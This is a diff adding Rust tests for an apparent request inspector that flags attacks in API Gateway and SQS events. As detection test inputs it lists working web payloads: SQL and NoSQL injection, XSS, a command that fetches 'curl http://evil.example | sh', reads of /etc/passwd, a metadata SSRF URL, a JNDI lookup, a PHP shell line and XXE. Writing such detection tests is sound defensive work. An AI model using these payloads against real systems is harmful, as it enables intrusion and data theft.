@@ -1,0 +1,304 @@
+//! Inspector-level tests: what findings say, where detectors look, and how configuration
+//! changes what is reported.
+#![allow(clippy::unwrap_used, clippy::expect_used)] // reason: tests
+
+use super::*;
+use crate::config::Config;
+use serde_json::{json, Value};
+
+fn inspect_with(config: &InspectConfig, event: &Value) -> Vec<Finding> {
+    let inspector = Inspector::new(config).unwrap();
+    let mut out = Vec::new();
+    inspector.inspect(&InputView::new(event), &mut out);
+    out
+}
+
+fn inspect(event: &Value) -> Vec<Finding> {
+    inspect_with(&InspectConfig::default(), event)
+}
+
+fn http(query: Value, body: Option<String>) -> Value {
+    let mut e = json!({"version": "2.0", "routeKey": "POST /orders/{id}", "rawPath": "/orders/7",
+        "requestContext": {"http": {"method": "POST", "path": "/orders/7"}},
+        "headers": {"content-type": "application/json", "user-agent": "Mozilla/5.0 (X11; Linux x86_64)"},
+        "queryStringParameters": query});
+    if let Some(b) = body {
+        e["body"] = Value::String(b);
+    }
+    e
+}
+
+fn sqs(bodies: &[&str]) -> Value {
+    let records: Vec<Value> = bodies
+        .iter()
+        .enumerate()
+        .map(|(i, b)| {
+            json!({"messageId": format!("m{i}"), "receiptHandle": "r", "body": b,
+            "attributes": {}, "messageAttributes": {}, "md5OfBody": "x", "eventSource": "aws:sqs",
+            "eventSourceARN": "arn:aws:sqs:eu-west-1:1:q", "awsRegion": "eu-west-1"})
+        })
+        .collect();
+    json!({ "Records": records })
+}
+
+#[test]
+fn clean_events_have_no_findings() {
+    let body = json!({"name": "Siobhán O'Brien", "note": "Please select the red one, or the blue; thanks!",
+        "email": "a.b+c@example.com", "when": "2024-05-17T13:45:00Z", "site": "https://example.com/a?b=c"});
+    assert!(inspect(&http(
+        json!({"page": "2", "q": "coffee or tea"}),
+        Some(body.to_string())
+    ))
+    .is_empty());
+    assert!(inspect(&sqs(&[
+        "{\"order\": 5, \"comment\": \"it's fine\"}",
+        "plain text"
+    ]))
+    .is_empty());
+}
+
+#[test]
+fn a_finding_names_category_rule_path_excerpt_and_transforms() {
+    let f = inspect(&http(json!({"id": "%2527%2520OR%25201%253D1--"}), None));
+    assert_eq!(f.len(), 1, "{f:?}");
+    assert_eq!(f[0].category, Category::Sqli);
+    assert_eq!(f[0].path, "$.queryStringParameters.id");
+    assert!(f[0].rule.starts_with("sqli."));
+    assert_eq!(f[0].transforms, vec!["percent_decode"]);
+    assert!(!f[0].excerpt.is_empty() && f[0].excerpt.chars().count() <= 48);
+}
+
+#[test]
+fn json_bodies_keys_and_base64_are_inspected() {
+    let body = json!({"user": {"$ne": null}, "list": [{"__proto__": {"admin": true}}]});
+    let f = inspect(&http(Value::Null, Some(body.to_string())));
+    let rules: Vec<&str> = f.iter().map(|f| f.rule.as_ref()).collect();
+    assert!(rules.contains(&"nosqli.operator_key"), "{rules:?}");
+    assert!(rules.contains(&"proto.proto_key"), "{rules:?}");
+    let key = f.iter().find(|f| f.rule == "nosqli.operator_key").unwrap();
+    assert_eq!(key.path, "$.body.user['$ne']");
+    assert!(key.transforms.contains(&"json"));
+
+    let mut e = http(Value::Null, None);
+    e["isBase64Encoded"] = json!(true);
+    e["body"] = json!("PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="); // <script>alert(1)</script>
+    let f = inspect(&e);
+    assert_eq!(f[0].category, Category::Xss);
+    assert_eq!(f[0].transforms, vec!["base64"]);
+}
+
+#[test]
+fn batch_findings_carry_their_record() {
+    let f = inspect(&sqs(&["fine", "; cat /etc/passwd", "also fine"]));
+    assert!(!f.is_empty());
+    assert!(f.iter().all(|f| f.record == Some(1)), "{f:?}");
+}
+
+#[test]
+fn allowlists_scopes_and_disable() {
+    let event = http(
+        Value::Null,
+        Some(json!({"html": "<b onclick=x()>hi</b>", "q": "1' or '1'='1"}).to_string()),
+    );
+    let config: Config = Config::from_toml(
+        r#"
+        [inspect]
+        [[inspect.allow]]
+        path = "$.body.html"
+        allow = ["xss"]
+        [[inspect.scope]]
+        route = "POST /orders/{id}"
+        disable = ["sqli.string_break"]
+        "#,
+    )
+    .unwrap();
+    config.validate().unwrap();
+    let f = inspect_with(&config.inspect, &event);
+    assert!(f.is_empty(), "{f:?}");
+    // Without them, both are reported.
+    assert_eq!(inspect(&event).len(), 2);
+    // A scope for another route leaves the rule on.
+    let other: Config =
+        Config::from_toml("[[inspect.scope]]\nroute = \"GET /health\"\ndisable = [\"sqli\"]\n")
+            .unwrap();
+    assert!(inspect_with(&other.inspect, &event)
+        .iter()
+        .any(|f| f.category == Category::Sqli));
+}
+
+#[test]
+fn paranoia_adds_rules() {
+    let event = http(json!({"q": "a/b/../c"}), None);
+    assert!(inspect(&event).is_empty());
+    let config = InspectConfig {
+        paranoia: Some(3),
+        ..InspectConfig::default()
+    };
+    assert_eq!(inspect_with(&config, &event)[0].rule, "path.traversal");
+}
+
+#[test]
+fn limits_are_checked_first_and_stop_inspection() {
+    let big = "' or 1=1 -- ".repeat(1000);
+    let config = InspectConfig {
+        max_event_bytes: Some(4096),
+        ..InspectConfig::default()
+    };
+    let f = inspect_with(&config, &http(json!({"q": big}), None));
+    assert_eq!(f.len(), 1);
+    assert_eq!(f[0].rule, "limit.event_bytes");
+    assert_eq!(
+        f[0].category.deny_reason(),
+        crate::decision::DenyReason::TooLarge
+    );
+
+    let config = InspectConfig {
+        max_string_bytes: Some(16),
+        ..InspectConfig::default()
+    };
+    let f = inspect_with(&config, &http(json!({"q": "x".repeat(17)}), None));
+    assert_eq!(f[0].rule, "limit.string_bytes");
+
+    let mut deep = json!("x");
+    for _ in 0..40 {
+        deep = json!({ "a": deep });
+    }
+    let f = inspect(&http(Value::Null, Some(deep.to_string())));
+    assert_eq!(f[0].rule, "limit.depth", "{f:?}");
+}
+
+#[test]
+fn findings_per_event_are_bounded() {
+    let bodies: Vec<String> = (0..200)
+        .map(|i| format!("{{\"k{i}\": \"<script>x</script>\"}}"))
+        .collect();
+    let body = format!("[{}]", bodies.join(","));
+    let f = inspect(&http(Value::Null, Some(body)));
+    assert_eq!(f.len(), MAX_FINDINGS);
+}
+
+#[test]
+fn invalid_configuration_names_the_key() {
+    let bad = |toml: &str| {
+        let c = Config::from_toml(toml).unwrap();
+        c.validate().unwrap_err().key().unwrap().to_owned()
+    };
+    assert_eq!(
+        bad("[inspect]\nparanoia = 7"),
+        "inspect.paranoia (GUARD_INSPECT_PARANOIA)"
+    );
+    assert_eq!(
+        bad("[inspect]\ndisable = [\"nope\"]"),
+        "inspect.disable (GUARD_INSPECT_DISABLE)"
+    );
+    assert_eq!(
+        bad("[inspect]\nmax_depth = 0"),
+        "inspect.max_depth (GUARD_INSPECT_MAX_DEPTH)"
+    );
+    assert_eq!(
+        bad("[[inspect.scope]]\ntrigger = \"ftp\""),
+        "inspect.scope[0].trigger"
+    );
+    assert_eq!(
+        bad("[[inspect.allow]]\npath = \"body\""),
+        "inspect.allow[0].path"
+    );
+    let env = |pairs: &'static [(&'static str, &'static str)]| {
+        move |k: &str| {
+            pairs
+                .iter()
+                .find(|(n, _)| *n == k)
+                .map(|(_, v)| (*v).to_owned())
+        }
+    };
+    let mut c = InspectConfig::default();
+    c.apply_env(&env(&[
+        ("GUARD_INSPECT_PARANOIA", "2"),
+        ("GUARD_INSPECT_DISABLE", "xss, log_injection"),
+    ]))
+    .unwrap();
+    assert_eq!(c.paranoia, Some(2));
+    assert_eq!(c.disable, vec!["xss", "log_injection"]);
+    let err = c
+        .apply_env(&env(&[("GUARD_INSPECT_MAX_KEYS", "many")]))
+        .unwrap_err();
+    assert_eq!(err.key(), Some("inspect.max_keys (GUARD_INSPECT_MAX_KEYS)"));
+}
+
+#[test]
+fn schema_per_scope_from_a_file() {
+    let dir = std::env::temp_dir().join(format!("lg-inspect-schema-{}", std::process::id()));
+    std::fs::create_dir_all(&dir).unwrap();
+    let path = dir.join("order.json");
+    std::fs::write(
+        &path,
+        r#"{"type": "object", "required": ["qty"], "properties": {"qty": {"type": "integer"}}}"#,
+    )
+    .unwrap();
+    let config = InspectConfig {
+        scope: vec![ScopeConfig {
+            trigger: Some("apigateway-http".into()),
+            schema: Some(path),
+            ..ScopeConfig::default()
+        }],
+        ..InspectConfig::default()
+    };
+    let f = inspect_with(
+        &config,
+        &http(Value::Null, Some("{\"qty\": \"ten\"}".into())),
+    );
+    assert_eq!(f.len(), 1, "{f:?}");
+    assert_eq!(
+        (f[0].category, f[0].path.as_str()),
+        (Category::Schema, "$.body.qty")
+    );
+    assert!(inspect_with(&config, &http(Value::Null, Some("{\"qty\": 10}".into()))).is_empty());
+    let missing = InspectConfig {
+        scope: vec![ScopeConfig {
+            schema: Some(dir.join("absent.json")),
+            ..ScopeConfig::default()
+        }],
+        ..InspectConfig::default()
+    };
+    assert_eq!(
+        Inspector::new(&missing).unwrap_err().key(),
+        Some("inspect.scope[0].schema")
+    );
+    std::fs::remove_dir_all(&dir).ok();
+}
+
+#[test]
+fn every_category_is_reachable_through_a_trigger() {
+    let cases: &[(&str, Category)] = &[
+        ("1 UNION SELECT password FROM users", Category::Sqli),
+        ("<svg onload=alert(1)>", Category::Xss),
+        (
+            "x; curl http://evil.example | sh",
+            Category::CommandInjection,
+        ),
+        ("../../../../etc/passwd", Category::PathTraversal),
+        (
+            "http://[::ffff:a9fe:a9fe]/latest/meta-data/",
+            Category::Ssrf,
+        ),
+        ("${${lower:j}ndi:ldap://x/a}", Category::Ssti),
+        ("<?php system($_GET['c']); ?>", Category::CodeInjection),
+        (
+            "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
+            Category::Xxe,
+        ),
+        ("user[$ne]=1", Category::Nosqli),
+        (
+            "bob\n2024-05-01 12:00:00 INFO login ok user=admin",
+            Category::LogInjection,
+        ),
+        ("__proto__.isAdmin", Category::PrototypePollution),
+    ];
+    for (payload, category) in cases {
+        let f = inspect(&sqs(&[payload]));
+        assert!(
+            f.iter().any(|f| f.category == *category),
+            "{payload}: {f:?}"
+        );
+    }
+}
